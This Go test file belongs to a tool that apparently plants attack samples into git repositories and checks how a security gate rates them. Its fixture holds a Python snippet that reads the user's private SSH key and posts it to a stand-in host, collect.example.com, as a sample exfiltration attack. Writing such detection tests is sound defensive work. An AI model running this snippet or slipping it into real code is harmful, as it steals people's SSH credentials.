package main

import (
	"bytes"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"go.uber.org/goleak"

	"github.com/aigate/gate/tools/testenv"
)

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

const steals = `import os, urllib.request
urllib.request.urlopen("http://collect.example.com/", data=open(os.path.expanduser("~/.ssh/id_ed25519"), "rb").read())
`

// What a folder of files needs: a suite of one attack and a folder of one bare repository.
func prepare(t *testing.T) (suite, repos string) {
	t.Helper()
	dir := t.TempDir()
	suite, repos = filepath.Join(dir, "attacks"), filepath.Join(dir, "repos")
	put(t, filepath.Join(suite, "exfiltration", "exfiltration-steal-key"), map[string]string{
		"attack.yaml": `id: exfiltration-steal-key
title: Sends a key away
technique: T1041
language: python
tries: posts a private key
entry: payload/ops/health.py
catch: [static]
contain: [network]
runtimes: [runc]
blind: false
`,
		"payload/ops/health.py": steals,
		"twin/ops/health.py":    "print('all is well')\n",
	})
	tree := filepath.Join(dir, "tree")
	put(t, tree, map[string]string{"main.py": "print(1)\n"})
	for _, args := range [][]string{{"init", "--quiet"}, {"add", "--all"}} {
		if _, err := git(t.Context(), tree, args...); err != nil {
			t.Fatal(err)
		}
	}
	if err := commit(t.Context(), tree); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.CommandContext(t.Context(), "git", "clone", "--quiet", "--bare", tree, filepath.Join(repos, "some.git")).CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	return suite, repos
}

func put(t *testing.T, dir string, files map[string]string) {
	t.Helper()
	for name, text := range files {
		full := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(full, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

func TestAnAttackIsPlantedIntoAHistoryAndAlone(t *testing.T) {
	suite, repos := prepare(t)
	out := t.TempDir()
	args := []string{"-gate", testenv.Gate(t), "-attacks", suite, "-out", out, repos}
	var log bytes.Buffer
	if code := run(t.Context(), args, &log); code != 0 {
		t.Fatalf("exit code %d: %s", code, &log)
	}
	table, err := os.ReadFile(filepath.Join(out, "planted.md"))
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"| some | 1 | 1 | 1 | 0 | 0, 0 |", "| all, in an empty repository | 1 | 1 | 1 | 0 | 0, 0 |"} {
		if !strings.Contains(string(table), want) {
			t.Errorf("no %q in:\n%s", want, table)
		}
	}
	log.Reset()
	if code := run(t.Context(), args, &log); code != 0 || log.Len() > 0 {
		t.Errorf("measured again, exit code %d: %s", code, &log)
	}
}

func TestAMilderVerdictInAHistoryIsListedAndFails(t *testing.T) {
	suite, repos := prepare(t)
	out := t.TempDir()
	put(t, out, map[string]string{"planted.jsonl": `{"attack":"exfiltration-steal-key","language":"python","project":"some","planted":"SUSPICIOUS","alone":"DANGEROUS","twin_planted":"SAFE","twin_alone":"SAFE"}` + "\n"})
	var log bytes.Buffer
	if code := run(t.Context(), []string{"-gate", "gate", "-attacks", suite, "-out", out, repos}, &log); code != 1 {
		t.Errorf("exit code %d: %s", code, &log)
	}
	table, err := os.ReadFile(filepath.Join(out, "planted.md"))
	if err != nil || !strings.Contains(string(table), "| some | exfiltration-steal-key | SUSPICIOUS | DANGEROUS |") {
		t.Errorf("%v in:\n%s", err, table)
	}
}

func TestWrongUsageIsSaid(t *testing.T) {
	for _, tt := range []struct {
		args []string
		code int
		want string
	}{
		{nil, 2, "give one folder"},
		{[]string{"-rounds", "0", "somewhere"}, 2, "1 to 100"},
		{[]string{"-attacks", "testdata/none", "somewhere"}, 1, "testdata/none"},
	} {
		var log bytes.Buffer
		if code := run(t.Context(), tt.args, &log); code != tt.code || !strings.Contains(log.String(), tt.want) {
			t.Errorf("%q: exit code %d: %s", tt.args, code, &log)
		}
	}
}
